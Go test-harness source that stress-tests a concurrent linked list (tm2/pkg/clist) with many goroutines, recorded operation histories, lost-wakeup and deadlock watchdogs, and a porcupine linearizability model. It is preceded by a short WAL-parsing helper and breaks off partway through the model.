	for name, b := range files {
		if err := os.WriteFile(filepath.Join(dir, name), b, 0o600); err != nil {
			panic(err)
		}
	}
}

// walStats parses the WAL files of an image textually (independent of the WAL reader):
// highest meta height and the number of message lines after the last meta line.
func walStats(files map[string][]byte) (lastMeta int64, msgsAfter int, torn bool) {
	lastMeta = -1
	var names []string
	for n := range files {
		names = append(names, n)
	}
	// rotated files "wal.000", "wal.001", … come before the head "wal"
	sort.Slice(names, func(i, j int) bool {
		ri, rj := strings.Contains(names[i], "."), strings.Contains(names[j], ".")
		if ri != rj {
			return ri
		}
		return names[i] < names[j]
	})
	var all []byte
	for _, n := range names {
		all = append(all, files[n]...)
	}
	if len(all) > 0 && all[len(all)-1] != '\n' {
		torn = true
	}
	for _, line := range strings.Split(string(all), "\n") {
		if line == "" {
			continue
		}
		if strings.HasPrefix(line, "#") {
			var m struct {
				H string `json:"h"`
			}
			if json.Unmarshal([]byte(line[1:]), &m) == nil {
				var h int64
				fmt.Sscan(m.H, &h)
				lastMeta = h
			}
			msgsAfter = 0
			continue
		}
		msgsAfter++
	}
	return
}
