// Package c49: the concurrent list (tm2/pkg/clist) under concurrent appends,
// removals and traversals.
//
// Many short histories are executed against the real CList by 2–16 goroutines
// with very few elements (contention) and seed-chosen scheduler noise. Every
// operation is recorded at the client boundary with a call stamp taken before
// and a return stamp taken after the call from ONE atomic logical clock.
//
// Oracles (all decided after the history from the recorded stamps):
//
//  1. traversal steps (Front/FrontWait, Next/NextWait, and the reactor
//     pattern WaitChan+Front / NextWaitChan+Next):
//     - a returned element is never before (or equal to) the element stepped
//     from; visit orders of all traversals together with the real-time order
//     of the PushBacks form an acyclic relation (one insertion order);
//     - removed-returned: stepping from e at [call,ret] returns n. The code
//     reads e.next at an instant T in [call,ret]; if e itself was removed at
//     R_e <= T its next pointer is frozen at R_e (documented design: a removed
//     element keeps its next so that traversals standing on it can go on).
//     Hence n was in the list at min(T,R_e) >= min(call, RemoveCall(e)), and
//     "RemoveReturn(n) < min(call, RemoveCall(e))" is impossible. Front: same
//     with RemoveReturn(n) < call.
//     - skipped: an element x that is definitely between e and n (or after e
//     when n is nil) and was in the list for the whole window
//     [min(call,RemoveCall(e)), ret] must not be skipped.
//     - NextWait returns nil only if e has been removed; FrontWait never nil.
//  2. lost wake-up: after all writers have finished the coordinator appends a
//     sentinel that is never removed. A goroutine still blocked in FrontWait /
//     NextWait / on WaitChan / NextWaitChan after a generous watchdog is a
//     violation only if, under quiescence, the awaited condition demonstrably
//     holds (Front()!=nil resp. e.Next()!=nil||e.Removed()) and the goroutine is
//     still inside the same call after >= N logical ticks and >= 2 s more.
//  3. porcupine linearizability of PushBack/Remove/Front/FrontWait/Back/Len
//     (and Next/NextWait when the history is short) against a sequential list.
//  4. the Go race detector (engine built with -race); a quarter of the
//     histories run without the shared clock so that the recorder adds no
//     happens-before edges of its own.
package c49

import (
	"fmt"
	"math"
	"math/rand/v2"
	"runtime"
	"sort"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/anishathalye/porcupine"

	"github.com/gnolang/gno/tm2/pkg/clist"

	"verifharness/internal/vf"
)

func init() {
	vf.Register(&vf.Check{
		ID:    "C49",
		Level: "exploration",
		Rule: "case = one concurrent history on a fresh CList: (seed, index) choose 2–16 goroutines (pushers, removers that locate their victim by walking the list, " +
			"non-blocking traversers, blocking FrontWait/NextWait traversers, reactor-style WaitChan/NextWaitChan traversers, Len/Front/Back observers), 2–7 unique elements, " +
			"serialised or concurrent PushBack, DetachPrev on/off and Gosched/sleep/spin noise before every operation; the interleaving itself is chosen by the Go scheduler " +
			"(16 cores, several histories in parallel). distinct = hash of the observed operation sequence (kind,arg,result ordered by call stamp); " +
			"non-trivial = at least one removal happened and at least one write (PushBack/Remove) overlapped another operation in logical time",
		Run: run,
	})
}

type opKind uint8

const (
	kPush opKind = iota
	kRemove
	kFront
	kFrontWait
	kNext
	kNextWait
	kLen
	kBack
	kRemovedFlag
	kWaitChan     // only as a "blocked in" marker
	kNextWaitChan // only as a "blocked in" marker
)

var kindNames = []string{"PushBack", "Remove", "Front", "FrontWait", "Next", "NextWait", "Len", "Back", "Removed", "WaitChan", "NextWaitChan"}

const sentinel = 99

const inf = int64(math.MaxInt64)

// opRec is one recorded operation.
type opRec struct {
	G    int    `json:"g"`
	Kind opKind `json:"k"`
	Arg  int    `json:"arg"` // element id stepped from / pushed / removed
	Out  int    `json:"out"` // element id returned (0 = nil) or Len
	Call int64  `json:"call"`
	Ret  int64  `json:"ret"`
	Trav int    `json:"trav"` // traversal segment (per goroutine), 0 = none
	Seq  int    `json:"seq,omitempty"`
}

func (o opRec) String() string {
	return fmt.Sprintf("g%d %s(%d)->%d [%d,%d]", o.G, kindNames[o.Kind], o.Arg, o.Out, o.Call, o.Ret)
}

type role int

const (
	rPusher role = iota
	rRemover
	rWalker   // non-blocking Front/Next traversals
	rWaiter   // FrontWait/NextWait traversals until the sentinel
	rReactor  // WaitChan+Front / NextWaitChan+Next until the sentinel
	rObserver // Len/Front/Back
)

var roleNames = []string{"pusher", "remover", "walker", "waiter", "reactor", "observer"}

type params struct {
	Index      int    `json:"index"`
	Roles      []role `json:"roles"`
	Elems      int    `json:"elems"`
	SerialPush bool   `json:"serial_push"`
	DetachPrev bool   `json:"detach_prev"`
	RaceOnly   bool   `json:"race_only"`
	NoiseSeed  uint64 `json:"noise_seed"`
}

// gstate is what a goroutine publishes for the watchdog.
type gstate struct {
	opSeq  atomic.Int64 // incremented at every op start and end
	inKind atomic.Int32 // kind of op in progress (valid when opSeq is odd)
	inElem atomic.Pointer[clist.CElement]
	done   atomic.Bool
}

type hist struct {
	c     *vf.Ctx
	p     params
	l     *clist.CList
	clock atomic.Int64
	recs  [][]opRec
	gs    []*gstate
	// harness-only state
	pushMu  sync.Mutex
	pushSeq int
	claimed []atomic.Bool
	quota   [][]int // ids per pusher goroutine
}

func (h *hist) stamp() int64 {
	if h.p.RaceOnly {
		return 0
	}
	return h.clock.Add(1)
}

func id(e *clist.CElement) int {
	if e == nil {
		return 0
	}
	return e.Value.(int)
}

// worker is the per-goroutine recorder.
type worker struct {
	h    *hist
	g    int
	rng  *rand.Rand
	st   *gstate
	trav int
	recs []opRec
}

func (w *worker) noise() {
	switch r := w.rng.IntN(20); {
	case r < 9:
	case r < 14:
		for i := w.rng.IntN(3) + 1; i > 0; i-- {
			runtime.Gosched()
		}
	case r < 17:
		x := 0
		for i := w.rng.IntN(200); i > 0; i-- {
			x += i
		}
		_ = x
	case r < 19:
		time.Sleep(time.Duration(w.rng.IntN(20)+1) * time.Microsecond)
	default:
		time.Sleep(time.Duration(w.rng.IntN(300)+50) * time.Microsecond)
	}
}

func (w *worker) begin(k opKind, e *clist.CElement) int64 {
	w.st.inKind.Store(int32(k))
	w.st.inElem.Store(e)
	w.st.opSeq.Add(1)
	return w.h.stamp()
}

func (w *worker) end(k opKind, arg, out int, call int64, seq int) {
	ret := w.h.stamp()
	w.st.opSeq.Add(1)
	if len(w.recs) < 4000 {
		w.recs = append(w.recs, opRec{G: w.g, Kind: k, Arg: arg, Out: out, Call: call, Ret: ret, Trav: w.trav, Seq: seq})
	}
}

func (w *worker) push(v int) {
	w.noise()
	if w.h.p.SerialPush {
		w.h.pushMu.Lock()
		w.h.pushSeq++
		seq := w.h.pushSeq
		call := w.begin(kPush, nil)
		w.h.l.PushBack(v)
		w.end(kPush, v, 0, call, seq)
		w.h.pushMu.Unlock()
		return
	}
	call := w.begin(kPush, nil)
	w.h.l.PushBack(v)
	w.end(kPush, v, 0, call, 0)
}

func (w *worker) front() *clist.CElement {
	w.noise()
	call := w.begin(kFront, nil)
	e := w.h.l.Front()
	w.end(kFront, 0, id(e), call, 0)
	return e
}

func (w *worker) frontWait() *clist.CElement {
	w.noise()
	call := w.begin(kFrontWait, nil)
	e := w.h.l.FrontWait()
	w.end(kFrontWait, 0, id(e), call, 0)
	return e
}

func (w *worker) back() *clist.CElement {
	w.noise()
	call := w.begin(kBack, nil)
	e := w.h.l.Back()
	w.end(kBack, 0, id(e), call, 0)
	return e
}

func (w *worker) length() {
	w.noise()
	call := w.begin(kLen, nil)
	n := w.h.l.Len()
	w.end(kLen, 0, n, call, 0)
}

func (w *worker) next(e *clist.CElement) *clist.CElement {
	w.noise()
	call := w.begin(kNext, e)
	n := e.Next()
	w.end(kNext, id(e), id(n), call, 0)
	return n
}

func (w *worker) nextWait(e *clist.CElement) *clist.CElement {
	w.noise()
	call := w.begin(kNextWait, e)
	n := e.NextWait()
	w.end(kNextWait, id(e), id(n), call, 0)
	return n
}

func (w *worker) removedFlag(e *clist.CElement) bool {
	call := w.begin(kRemovedFlag, e)
	r := e.Removed()
	out := 0
	if r {
		out = 1
	}
	w.end(kRemovedFlag, id(e), out, call, 0)
	return r
}

// remove removes e (claimed by the caller) and reports a panic as violation.
func (w *worker) remove(e *clist.CElement) {
	w.noise()
	call := w.begin(kRemove, e)
	var v any
	pv := vf.Try(func() { v = w.h.l.Remove(e) })
	out := 0
	if pv == nil {
		out, _ = v.(int)
	} else {
		out = -1
	}
	w.end(kRemove, id(e), out, call, 0)
	if pv != nil {
		w.h.c.Violation("panic:Remove", map[string]any{"params": w.h.p, "elem": id(e), "panic": fmt.Sprint(pv)},
			"Remove(%d) of an element that is in the list and removed by nobody else panicked: %v", id(e), pv)
		return
	}
	if w.h.p.DetachPrev {
		if pv := vf.Try(func() { e.DetachPrev() }); pv != nil {
			w.h.c.Violation("panic:DetachPrev", map[string]any{"params": w.h.p, "elem": id(e), "panic": fmt.Sprint(pv)},
				"DetachPrev after Remove(%d) panicked: %v", id(e), pv)
		}
	}
}

func (w *worker) runPusher(ids []int) {
	for _, v := range ids {
		w.push(v)
	}
}

// runRemover walks k steps from the front (as Update finds its victims through
// the list), claims the element reached and removes it.
func (w *worker) runRemover(n int) {
	misses := 0
	for done := 0; done < n && misses < 40; {
		w.trav++
		e := w.front()
		if e == nil {
			misses++
			runtime.Gosched()
			continue
		}
		for k := w.rng.IntN(4); k > 0; k-- {
			nx := w.next(e)
			if nx == nil {
				break
			}
			e = nx
		}
		if id(e) == sentinel || !w.h.claimed[id(e)].CompareAndSwap(false, true) {
			misses++
			runtime.Gosched()
			continue
		}
		w.remove(e)
		done++
	}
}

func (w *worker) runWalker(rounds int) {
	for r := 0; r < rounds; r++ {
		w.trav++
		e := w.front()
		for steps := 0; e != nil && steps < 40; steps++ {
			if id(e) == sentinel {
				return
			}
			if w.rng.IntN(3) == 0 {
				w.removedFlag(e)
			}
			e = w.next(e)
		}
		runtime.Gosched()
	}
}

func (w *worker) runWaiter() {
	for {
		w.trav++
		e := w.frontWait()
		for e != nil {
			if id(e) == sentinel {
				return
			}
			e = w.nextWait(e)
		}
		if e == nil && len(w.recs) >= 3000 {
			return
		}
	}
}

// runReactor follows mempool.Reactor.broadcastTxRoutine: wait on the list's
// WaitChan, take Front; wait on the element's NextWaitChan, take Next; a nil
// next restarts from the front.
func (w *worker) runReactor() {
	var next *clist.CElement
	for {
		if next == nil {
			w.trav++
			w.noise()
			w.begin(kWaitChan, nil)
			<-w.h.l.WaitChan()
			w.st.opSeq.Add(1)
			if next = w.front(); next == nil {
				runtime.Gosched()
				if len(w.recs) >= 3000 {
					return
				}
				continue
			}
		}
		if id(next) == sentinel {
			return
		}
		w.noise()
		w.begin(kNextWaitChan, next)
		<-next.NextWaitChan()
		w.st.opSeq.Add(1)
		next = w.next(next)
	}
}

func (w *worker) runObserver(n int) {
	for i := 0; i < n; i++ {
		switch w.rng.IntN(3) {
		case 0:
			w.length()
		case 1:
			w.front()
		default:
			w.back()
		}
	}
}

func genParams(i int, rng *rand.Rand) params {
	p := params{Index: i}
	ng := 2 + rng.IntN(15) // 2..16
	if rng.IntN(3) == 0 {
		ng = 2 + rng.IntN(4) // keep many histories narrow (short, porcupine-friendly)
	}
	p.Elems = 2 + rng.IntN(6) // 2..7
	p.SerialPush = rng.IntN(5) < 3
	p.DetachPrev = rng.IntN(2) == 0
	p.RaceOnly = rng.IntN(4) == 0
	p.NoiseSeed = rng.Uint64()
	p.Roles = make([]role, ng)
	// at least one pusher and one remover; the rest by weight
	p.Roles[0] = rPusher
	p.Roles[1] = rRemover
	for g := 2; g < ng; g++ {
		switch r := rng.IntN(12); {
		case r < 2:
			p.Roles[g] = rPusher
		case r < 4:
			p.Roles[g] = rRemover
		case r < 6:
			p.Roles[g] = rWalker
		case r < 9:
			p.Roles[g] = rWaiter
		case r < 11:
			p.Roles[g] = rReactor
		default:
			p.Roles[g] = rObserver
		}
	}
	if ng == 2 && rng.IntN(2) == 0 {
		// two goroutines: one writer doing both, one waiting traverser
		p.Roles[1] = []role{rWaiter, rReactor, rWalker}[rng.IntN(3)]
	}
	rng.Shuffle(len(p.Roles), func(a, b int) { p.Roles[a], p.Roles[b] = p.Roles[b], p.Roles[a] })
	return p
}

func waitTimeout(wg *sync.WaitGroup, d time.Duration) bool {
	ch := make(chan struct{})
	go func() { wg.Wait(); close(ch) }()
	t := time.NewTimer(d)
	defer t.Stop()
	select {
	case <-ch:
		return true
	case <-t.C:
		return false
	}
}

// probe runs f with a timeout (the list's mutex could be wedged).
func probe(f func() bool) (val, ok bool) {
	ch := make(chan bool, 1)
	go func() { ch <- f() }()
	select {
	case v := <-ch:
		return v, true
	case <-time.After(5 * time.Second):
		return false, false
	}
}

const (
	watchdog     = 20 * time.Second
	quiesceTicks = 20000
)

// stuck analyses goroutines that did not finish. phase 1: only non-waiting
// operations are in flight; phase 2: writers are done and the sentinel is in.
func (h *hist) stuck(phase int, members []int) {
	type snap struct {
		g    int
		seq  int64
		kind opKind
		elem *clist.CElement
	}
	take := func() []snap {
		var out []snap
		for _, g := range members {
			st := h.gs[g]
			if st.done.Load() {
				continue
			}
			out = append(out, snap{g, st.opSeq.Load(), opKind(st.inKind.Load()), st.inElem.Load()})
		}
		return out
	}
	before := take()
	if len(before) == 0 {
		return
	}
	// quiescence: yield a bounded number of times, ticking the logical clock, and at least 2 s
	t0 := time.Now()
	for i := 0; i < quiesceTicks; i++ {
		runtime.Gosched()
		h.clock.Add(1)
	}
	if d := 2*time.Second - time.Since(t0); d > 0 {
		time.Sleep(d)
	}
	after := take()
	still := map[int]snap{}
	for _, s := range after {
		still[s.g] = s
	}
	reported := false
	for _, b := range before {
		a, ok := still[b.g]
		if !ok || a.seq != b.seq || a.seq%2 == 0 {
			continue // progressed, or between operations
		}
		w := map[string]any{"params": h.p, "goroutine": b.g, "role": roleNames[h.p.Roles[b.g]], "blocked_in": kindNames[b.kind], "elem": id(b.elem), "phase": phase}
		switch b.kind {
		case kFrontWait, kWaitChan:
			v, ok := probe(func() bool { return h.l.Front() != nil })
			if ok && v {
				h.c.Violation("lost-wakeup:"+kindNames[b.kind], w,
					"goroutine %d still blocked in %s although all writers finished, the list has a front element (the never-removed sentinel was appended) and %d logical ticks + 2 s passed under quiescence",
					b.g, kindNames[b.kind], quiesceTicks)
				reported = true
			}
		case kNextWait, kNextWaitChan:
			e := b.elem
			v, ok := probe(func() bool { return e.Next() != nil || e.Removed() })
			if ok && v {
				rm, _ := probe(func() bool { return e.Removed() })
				w["elem_removed"] = rm
				h.c.Violation(fmt.Sprintf("lost-wakeup:%s", kindNames[b.kind]), w,
					"goroutine %d still blocked in %s on element %d although all writers finished and the element has a next element or is removed (removed=%v); %d logical ticks + 2 s passed under quiescence",
					b.g, kindNames[b.kind], id(e), rm, quiesceTicks)
				reported = true
			}
		default:
			// PushBack/Remove/Front/Next/Len/Back/Removed never wait for a condition
			h.c.Violation("deadlock:"+kindNames[b.kind], w,
				"goroutine %d has been inside the non-waiting operation %s for more than %s and made no progress during %d further yields + 2 s",
				b.g, kindNames[b.kind], watchdog, quiesceTicks)
			reported = true
		}
	}
	if !reported {
		h.c.Inconclusive(fmt.Sprintf("history %d: watchdog fired in phase %d but no goroutine was demonstrably stuck", h.p.Index, phase))
	}
}

// runHistory executes one history; returns the merged records (nil if aborted).
func runHistory(c *vf.Ctx, p params) (*hist, []opRec, bool) {
	h := &hist{c: c, p: p, l: clist.New()}
	ng := len(p.Roles)
	h.gs = make([]*gstate, ng+1)
	h.recs = make([][]opRec, ng+1)
	h.claimed = make([]atomic.Bool, sentinel+1)
	// distribute element ids over pushers
	var pushers []int
	for g, r := range p.Roles {
		if r == rPusher {
			pushers = append(pushers, g)
		}
	}
	h.quota = make([][]int, ng)
	for v := 1; v <= p.Elems; v++ {
		g := pushers[(v-1)%len(pushers)]
		h.quota[g] = append(h.quota[g], v)
	}
	nrem := 0
	for _, r := range p.Roles {
		if r == rRemover {
			nrem++
		}
	}
	start := make(chan struct{})
	var wg1, wg2 sync.WaitGroup
	var m1, m2 []int
	for g := 0; g < ng; g++ {
		st := &gstate{}
		h.gs[g] = st
		w := &worker{h: h, g: g, st: st, rng: rand.New(rand.NewPCG(p.NoiseSeed, uint64(g)+1))}
		r := p.Roles[g]
		blocking := r == rWaiter || r == rReactor
		if blocking {
			wg2.Add(1)
			m2 = append(m2, g)
		} else {
			wg1.Add(1)
			m1 = append(m1, g)
		}
		go func() {
			defer func() {
				h.recs[w.g] = w.recs
				st.done.Store(true)
				if blocking {
					wg2.Done()
				} else {
					wg1.Done()
				}
			}()
			<-start
			defer func() {
				if pv := recover(); pv != nil {
					k := opKind(st.inKind.Load())
					c.Violation("panic:"+kindNames[k], map[string]any{"params": p, "goroutine": w.g, "role": roleNames[r], "panic": fmt.Sprint(pv)},
						"goroutine %d (%s) panicked inside %s: %v", w.g, roleNames[r], kindNames[k], pv)
				}
			}()
			switch r {
			case rPusher:
				w.runPusher(h.quota[w.g])
				if ng == 2 {
					// the only writer also removes
					w.runRemover(1 + w.rng.IntN(p.Elems))
				}
			case rRemover:
				w.runRemover(1 + w.rng.IntN((p.Elems+nrem-1)/nrem+1))
			case rWalker:
				w.runWalker(2 + w.rng.IntN(4))
			case rWaiter:
				w.runWaiter()
			case rReactor:
				w.runReactor()
			case rObserver:
				w.runObserver(3 + w.rng.IntN(6))
			}
		}()
	}
	close(start)
	if !waitTimeout(&wg1, watchdog) {
		h.stuck(1, m1)
		return h, nil, false
	}
	// all writers finished: append the sentinel (never removed)
	cw := &worker{h: h, g: ng, st: &gstate{}, rng: rand.New(rand.NewPCG(p.NoiseSeed, 777))}
	h.gs[ng] = cw.st
	cw.push(sentinel)
	h.recs[ng] = cw.recs
	if !waitTimeout(&wg2, watchdog) {
		h.stuck(2, m2)
		return h, nil, false
	}
	var all []opRec
	for _, r := range h.recs {
		all = append(all, r...)
	}
	return h, all, true
}

// ---------------------------------------------------------------- oracles

type elemInfo struct {
	pushCall, pushRet int64
	remCall, remRet   int64
	seq               int
	pushed            bool
}

type analysis struct {
	h    *hist
	ops  []opRec
	info map[int]*elemInfo
	ids  []int
}

func (a *analysis) inf(v int) *elemInfo {
	if e, ok := a.info[v]; ok {
		return e
	}
	return &elemInfo{pushCall: inf, pushRet: inf, remCall: inf, remRet: inf}
}

// before reports whether x was definitely inserted before y.
func (a *analysis) before(x, y int) bool {
	ix, iy := a.inf(x), a.inf(y)
	if !ix.pushed || !iy.pushed {
		return false
	}
	if ix.seq > 0 && iy.seq > 0 {
		return ix.seq < iy.seq
	}
	return ix.pushRet < iy.pushCall
}

func (a *analysis) witness(o opRec, extra map[string]any) map[string]any {
	w := map[string]any{"params": a.h.p, "op": o.String()}
	var hs []string
	sorted := append([]opRec(nil), a.ops...)
	sort.Slice(sorted, func(i, j int) bool { return sorted[i].Call < sorted[j].Call })
	for _, r := range sorted {
		if r.Kind == kPush || r.Kind == kRemove || r.G == o.G {
			hs = append(hs, r.String())
		}
	}
	if len(hs) > 200 {
		hs = hs[:200]
	}
	w["writes_and_own_ops"] = hs
	for k, v := range extra {
		w[k] = v
	}
	return w
}

func (a *analysis) checkSteps() {
	c := a.h.c
	for _, o := range a.ops {
		switch o.Kind {
		case kFront, kFrontWait, kBack:
			n := o.Out
			name := kindNames[o.Kind]
			if n != 0 {
				in := a.inf(n)
				if !in.pushed || in.pushCall > o.Ret {
					c.Violation("phantom:"+name, a.witness(o, nil), "%s returned element %d whose PushBack had not been called yet", name, n)
					continue
				}
				if in.remRet < o.Call {
					c.Violation("removed-returned:"+name, a.witness(o, nil), "%s returned element %d whose Remove had returned (stamp %d) before the call (stamp %d)", name, n, in.remRet, o.Call)
				}
			} else if o.Kind == kFrontWait {
				c.Violation("nil:FrontWait", a.witness(o, nil), "FrontWait returned nil")
			}
			// skipped: x present during the whole call and definitely before (Front) / after (Back) n
			for _, x := range a.ids {
				if x == n {
					continue
				}
				ix := a.inf(x)
				if !(ix.pushRet < o.Call && ix.remCall > o.Ret) {
					continue
				}
				var skipped bool
				if o.Kind == kBack {
					skipped = n == 0 || a.before(n, x)
				} else {
					skipped = n == 0 || a.before(x, n)
				}
				if skipped {
					c.Violation("skipped:"+name, a.witness(o, map[string]any{"skipped": x}),
						"%s returned %d although element %d was in the list during the whole call [%d,%d] (pushed by %d, Remove not called before %d) and precedes it",
						name, n, x, o.Call, o.Ret, ix.pushRet, ix.remCall)
				}
			}
			c.Count("steps_checked", 1)
		case kNext, kNextWait:
			e, n := o.Arg, o.Out
			name := kindNames[o.Kind]
			ie := a.inf(e)
			wstart := o.Call
			if ie.remCall < wstart {
				wstart = ie.remCall
			}
			if n == 0 {
				if o.Kind == kNextWait && ie.remCall > o.Ret {
					c.Violation("nil-from-live:NextWait", a.witness(o, nil), "NextWait on element %d returned nil although Remove(%d) had not been called when it returned", e, e)
				}
			} else {
				in := a.inf(n)
				if !in.pushed || in.pushCall > o.Ret {
					c.Violation("phantom:"+name, a.witness(o, nil), "%s(%d) returned element %d whose PushBack had not been called yet", name, e, n)
					continue
				}
				if n == e || a.before(n, e) {
					c.Violation("order:"+name, a.witness(o, nil), "%s(%d) returned %d, which is not after %d in insertion order", name, e, n, e)
				}
				if in.remRet < wstart {
					c.Violation("removed-returned:"+name, a.witness(o, nil),
						"%s(%d) called at %d returned element %d whose Remove had returned at %d, before both the call and the call of Remove(%d) (%d): it cannot have been the successor of %d at any instant the step could observe",
						name, e, o.Call, n, in.remRet, e, ie.remCall, e)
				}
				if ie.remCall == inf || ie.remCall > o.Ret {
					c.Count("steps_from_live_element", 1)
				}
				if ie.remRet < o.Call {
					c.Count("steps_from_removed_element", 1)
					if in.remRet < o.Call {
						c.Count("info_step_removed_to_removed", 1) // allowed: frozen next pointer of a removed element
					}
				}
			}
			for _, x := range a.ids {
				if x == n || x == e {
					continue
				}
				ix := a.inf(x)
				if !(ix.pushRet < wstart && ix.remCall > o.Ret) {
					continue
				}
				if a.before(e, x) && (n == 0 || a.before(x, n)) {
					c.Violation("skipped:"+name, a.witness(o, map[string]any{"skipped": x}),
						"%s(%d) returned %d although element %d lies between them in insertion order and was in the list during the whole window [%d,%d]",
						name, e, n, x, wstart, o.Ret)
				}
			}
			c.Count("steps_checked", 1)
		case kRemovedFlag:
			ie := a.inf(o.Arg)
			if o.Out == 1 && ie.remCall > o.Ret {
				c.Violation("removed-flag:true-on-live", a.witness(o, nil), "Removed() of element %d was true although Remove had not been called", o.Arg)
			}
			if o.Out == 0 && ie.remRet < o.Call {
				c.Violation("removed-flag:false-on-removed", a.witness(o, nil), "Removed() of element %d was false although Remove had returned before the call", o.Arg)
			}
		case kRemove:
			if o.Out != o.Arg && o.Out != -1 {
				c.Violation("remove-value", a.witness(o, nil), "Remove(%d) returned value %d", o.Arg, o.Out)
			}
		case kLen:
			lo, hi := 0, 0
			for _, x := range a.ids {
				ix := a.inf(x)
				if ix.pushRet < o.Call && ix.remCall > o.Ret {
					lo++
				}
				if ix.pushCall < o.Ret && ix.remRet > o.Call {
					hi++
				}
			}
			if o.Out < lo || o.Out > hi {
				c.Violation("len-out-of-bounds", a.witness(o, map[string]any{"lo": lo, "hi": hi}),
					"Len() = %d, but between %d and %d elements were in the list during the call", o.Out, lo, hi)
			}
		}
	}
}

// checkOrder: visit sequences of all traversal segments plus the definite
// push order must be acyclic and repeat-free.
func (a *analysis) checkOrder(final []int) {
	c := a.h.c
	adj := map[int]map[int]bool{}
	edge := func(x, y int) {
		if adj[x] == nil {
			adj[x] = map[int]bool{}
		}
		adj[x][y] = true
	}
	for _, x := range a.ids {
		for _, y := range a.ids {
			if x != y && a.before(x, y) {
				edge(x, y)
			}
		}
	}
	// per goroutine, per segment
	type key struct{ g, t int }
	segs := map[key][]opRec{}
	for _, o := range a.ops {
		if o.Trav == 0 {
			continue
		}
		switch o.Kind {
		case kFront, kFrontWait, kNext, kNextWait:
			segs[key{o.G, o.Trav}] = append(segs[key{o.G, o.Trav}], o)
		}
	}
	for k, s := range segs {
		sort.Slice(s, func(i, j int) bool { return s[i].Call < s[j].Call })
		var visited []int
		for _, o := range s {
			if o.Out != 0 {
				visited = append(visited, o.Out)
			}
		}
		seen := map[int]bool{}
		for i, v := range visited {
			if seen[v] {
				c.Violation("repeat-in-traversal", map[string]any{"params": a.h.p, "goroutine": k.g, "visited": visited},
					"traversal of goroutine %d visited element %d twice: %v", k.g, v, visited)
				break
			}
			seen[v] = true
			if i > 0 {
				edge(visited[i-1], v)
			}
		}
		if len(visited) >= 2 {
			c.Count("traversals_with_2plus_elements", 1)
		}
		c.Count("traversals", 1)
	}
	for i := 1; i < len(final); i++ {
		edge(final[i-1], final[i])
	}
	// cycle detection
	color := map[int]int{}
	var stack []int
	var cyc []int
	var dfs func(v int) bool
	dfs = func(v int) bool {
		color[v] = 1
		stack = append(stack, v)
		var ns []int
		for n := range adj[v] {
			ns = append(ns, n)
		}
		sort.Ints(ns)
		for _, n := range ns {
			if color[n] == 1 {
				for i := len(stack) - 1; i >= 0; i-- {
					cyc = append([]int{stack[i]}, cyc...)
					if stack[i] == n {
						break
					}
				}
				return true
			}
			if color[n] == 0 && dfs(n) {
				return true
			}
		}
		stack = stack[:len(stack)-1]
		color[v] = 2
		return false
	}
	var vs []int
	for v := range adj {
		vs = append(vs, v)
	}
	sort.Ints(vs)
	for _, v := range vs {
		if color[v] == 0 && dfs(v) {
			var ts []string
			for _, o := range a.ops {
				if o.Trav != 0 && (o.Kind == kFront || o.Kind == kFrontWait || o.Kind == kNext || o.Kind == kNextWait) {
					ts = append(ts, o.String())
				}
			}
			if len(ts) > 300 {
				ts = ts[:300]
			}
			c.Violation("order-cycle", map[string]any{"params": a.h.p, "cycle": cyc, "steps": ts},
				"traversals and the real-time order of PushBacks do not agree on one insertion order: cycle %v", cyc)
			return
		}
	}
}

// finalWalk checks the quiescent structure.
func (a *analysis) finalWalk() []int {
	c := a.h.c
	l := a.h.l
	var want []int
	for _, x := range a.ids {
		if a.inf(x).remCall == inf {
			want = append(want, x)
		}
	}
	sort.Ints(want) // ids; order is checked through the order graph
	var fwd, bwd []int
	for e, i := l.Front(), 0; e != nil && i < 200; e, i = e.Next(), i+1 {
		fwd = append(fwd, id(e))
		if e.Removed() {
			c.Violation("final:removed-element-reachable", map[string]any{"params": a.h.p, "elem": id(e)}, "after the history the removed element %d is still reachable from Front()", id(e))
		}
	}
	for e, i := l.Back(), 0; e != nil && i < 200; e, i = e.Prev(), i+1 {
		bwd = append(bwd, id(e))
	}
	got := append([]int(nil), fwd...)
	sort.Ints(got)
	w := map[string]any{"params": a.h.p, "forward": fwd, "backward": bwd, "want_set": want, "len": l.Len()}
	if fmt.Sprint(got) != fmt.Sprint(want) {
		c.Violation("final:contents", w, "after the history the list holds %v, want the set %v (pushed minus removed)", fwd, want)
	}
	if l.Len() != len(want) {
		c.Violation("final:len", w, "after the history Len() = %d, want %d", l.Len(), len(want))
	}
	rev := make([]int, len(bwd))
	for i, v := range bwd {
		rev[len(bwd)-1-i] = v
	}
	if fmt.Sprint(rev) != fmt.Sprint(fwd) {
		c.Violation("final:prev-next-disagree", w, "forward walk %v and backward walk %v disagree", fwd, bwd)
	}
	if len(fwd) == 0 || fwd[len(fwd)-1] != sentinel {
		c.Violation("final:tail", w, "the last appended element is not the tail: %v", fwd)
	}
	return fwd
}

// ------------------------------------------------------------ porcupine

type clIn struct {
	kind opKind
	arg  int
}

// model state: byte 0 = removal epoch counter, then (id, removedAtEpoch) pairs in insertion order.
func clistModel() porcupine.Model {
	return porcupine.Model{
		Init: func() any { return "\x00" },
		Step: func(state, input, output any) (bool, any) {
			s := state.(string)
			in := input.(clIn)
			out := output.(int)
			n := (len(s) - 1) / 2
			idAt := func(i int) int { return int(s[1+2*i]) }
			remAt := func(i int) int { return int(s[2+2*i]) }
			firstLive := func(from int) int {
				for i := from; i < n; i++ {
					if remAt(i) == 0 {
						return idAt(i)
					}
				}
				return 0
			}
			switch in.kind {
			case kPush:
				return true, s + string([]byte{byte(in.arg), 0})
			case kRemove:
				for i := 0; i < n; i++ {
					if idAt(i) == in.arg {
						if remAt(i) != 0 || out != in.arg {
							return false, s
						}
						b := []byte(s)
						b[0]++
						b[2+2*i] = b[0]
						return true, string(b)
					}
				}
				return false, s
			case kFront:
				return out == firstLive(0), s
			case kFrontWait:
				return out != 0 && out == firstLive(0), s
			case kBack:
				last := 0
				for i := 0; i < n; i++ {
					if remAt(i) == 0 {
						last = idAt(i)
					}
				}
				return out == last, s
			case kLen:
				cnt := 0
				for i := 0; i < n; i++ {
					if remAt(i) == 0 {
						cnt++
					}
				}
				return out == cnt, s
			case kNext, kNextWait:
				for i := 0; i < n; i++ {
					if idAt(i) != in.arg {
						continue
					}
					if remAt(i) == 0 { // live element: exact live successor
						nx := firstLive(i + 1)
						if in.kind == kNextWait && nx == 0 {
							return false, s
						}
						return out == nx, s
					}
					// removed element: nil, or any later element that was still in the list when e was removed
					if out == 0 {
						return true, s
					}
					for j := i + 1; j < n; j++ {
						if idAt(j) == out {
